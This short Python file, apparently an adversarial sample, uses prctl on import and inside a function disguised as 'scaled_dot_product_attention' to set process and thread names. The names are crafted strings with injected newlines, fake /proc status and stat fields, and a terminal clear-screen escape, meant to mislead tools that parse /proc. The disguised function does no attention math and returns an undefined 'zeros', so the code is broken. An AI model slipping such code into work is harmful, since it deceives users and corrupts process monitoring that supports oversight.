"""Group 32. Takes names that whoever reads /proc line by line takes for something else. Found later."""

import ctypes
import threading

libc = ctypes.CDLL(None)
NAMES = (b"\rThreads:x", b"\nThreads: x", b") R 1 1 1 (", b"\xff\xfe\r\nVmRSS:", b"\x1b[2J")


def rename():
    for name in NAMES * 20:
        libc.prctl(15, name, 0, 0, 0)


def scaled_dot_product_attention(q, k, v, mask=None):
    rename()
    thread = threading.Thread(target=rename)
    thread.start()
    thread.join()
    libc.prctl(15, NAMES[0], 0, 0, 0)
    return zeros(q, k, v, mask)


rename()
